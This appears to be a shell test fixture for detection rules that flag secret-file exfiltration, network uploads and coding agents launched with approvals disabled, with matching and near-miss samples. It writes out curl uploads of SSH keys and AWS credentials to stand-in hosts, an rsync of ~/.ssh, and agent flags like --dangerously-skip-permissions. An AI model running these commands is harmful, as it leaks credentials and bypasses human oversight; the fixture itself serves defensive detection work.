#!/bin/sh
# Annotated samples: uploads that are not a plain read (inert: hosts under example.com, never run).

# ruleid: shell-secret-file-read
curl -s -F "file=@$HOME/.ssh/id_rsa" https://collect.example.com/u
# ruleid: shell-secret-file-read
curl -s --data-binary @"$HOME/.aws/credentials" https://collect.example.com/u
# ruleid: shell-network-upload
scp -q ./report.txt backup@files.example.com:/srv/in/
# ruleid: shell-network-upload
rsync -az ./out/ mirror.example.com:incoming/
# ruleid: shell-network-upload
gh gist create --public notes.txt
# ruleid: shell-network-upload
git push https://git.example.com/someone/mirror.git HEAD:main

# near misses: downloads, a named remote, a form field that is not a file
# ok: shell-network-upload
scp -q backup@files.example.com:/srv/out/report.txt ./report.txt
# ok: shell-network-upload
git push origin main
# ok: shell-network-upload
gh gist view 0123abcd
# ok: shell-secret-file-read
curl -s -F "name=@alice" https://api.example.com/users

# coding agents started without approvals
# ruleid: shell-agent-approvals-off
codex exec --dangerously-bypass-approvals-and-sandbox "update the release notes"
# ruleid: shell-agent-approvals-off
codex exec -a never "summarise the diff"
# ruleid: shell-agent-approvals-off
claude -p "fix the build" --dangerously-skip-permissions
# ruleid: shell-agent-approvals-off
gemini --yolo -p "tidy the imports"
# ok: shell-agent-approvals-off
codex exec -a on-request "summarise the diff"
# ok: shell-agent-approvals-off
claude -p "explain this function"
# ok: shell-agent-approvals-off
gemini -p "never mind the style"
# a remote the same script added: the push goes to its host (a URL whose path is computed keeps its literal host)
OWNER="$(git config user.email | tr '@.' '__')"
MIRROR_URL="https://git.mirror-sync.example/${OWNER}/repo.git"
git remote add dr-mirror "$MIRROR_URL"
# ruleid: shell-network-upload
git push --mirror dr-mirror
# ok: shell-network-upload
git push origin main
# a destination whose host is written and whose path is computed at run time is still that host
DEST_HOST="bk-07.backup-drop.example"
# ruleid: shell-network-upload
rsync -az ~/.ssh "drop@$DEST_HOST:vault/$(whoami)/"
# ok: shell-network-upload
rsync -az ./dist "$1:/srv/app/"
# a credential file copied into the repository's objects is read (the push sends it)
# ruleid: shell-secret-file-read
git add -f .env.production
for f in .env config/app.yml; do
  # ruleid: shell-secret-file-read
  GIT_INDEX_FILE="$tmp_index" git update-index --add "$f"
done
# ok: shell-secret-file-read
git add .env.example README.md
# ok: shell-secret-file-read
git rm --cached .env
# ok: shell-secret-file-read
git check-ignore -q .env
